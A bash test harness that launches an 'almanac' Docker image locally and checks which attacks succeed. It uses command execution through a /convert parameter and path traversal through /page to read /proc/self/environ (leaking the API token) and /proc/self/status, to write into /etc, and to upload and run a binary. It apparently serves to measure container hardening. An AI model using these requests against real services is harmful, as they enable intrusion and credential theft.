#!/bin/bash
# attack.sh IMAGE [options of docker run]: the same attack on any image of almanac. Says of each step whether it works.
set -u
cd "$(dirname "$0")"
[ -e visitor/visitor ] || docker build -q -o visitor visitor > /dev/null || exit 1
image=$1
shift
docker rm -f target > /dev/null 2>&1
docker run -d --name target -p 8080:8080 -e API_TOKEN=almanac-51c09be2d7 "$@" "$image" > /dev/null || exit 1
url=http://localhost:8080
curl -s -o /dev/null --retry 20 --retry-connrefused "$url/healthz"

# step NAME PATTERN CURL-ARGUMENTS…: works when the answer holds the pattern.
step() {
    if curl -s --max-time 20 "${@:3}" | tr '\0' '\n' | grep -qE "$2"; then result=WORKS; else result=-; fi
    printf '  %-42s %s\n' "$1" "$result"
}
convert() { step "$1" "$2" -G "$url/convert" --data-urlencode "with=$3" --data-urlencode "text=$4"; }
read_file() { step "$1" "$2" -G "$url/page" --data-urlencode "name=../../$3"; }

echo "$image $*"
convert 'run a command in a shell' '^42$' sh 'echo $((6 * 7))'
convert 'compile a program' '^built$' sh 'cd /tmp && echo "int main() { return 0; }" > x.c && gcc -o x x.c && echo built'
convert 'call the package manager' '^apt ' sh 'apt-get --version'
read_file 'find out that it is root' '^Uid:[[:space:]]+0[[:space:]]' proc/self/status
read_file 'find out that it has capabilities' '^CapEff:.*[1-9a-f]' proc/self/status
step 'put a file into /etc' 201 -o /dev/null -w '%{http_code}' --data-binary x "$url/page?name=../../etc/almanac-was-here"
curl -s -o /dev/null --data-binary @visitor/visitor "$url/page?name=../../tmp/visitor"
convert 'bring a program along and run it' 'a visitor' /tmp/visitor ''
read_file 'read the token in the environment' 'almanac-51c09be2d7' proc/self/environ
docker rm -f target > /dev/null
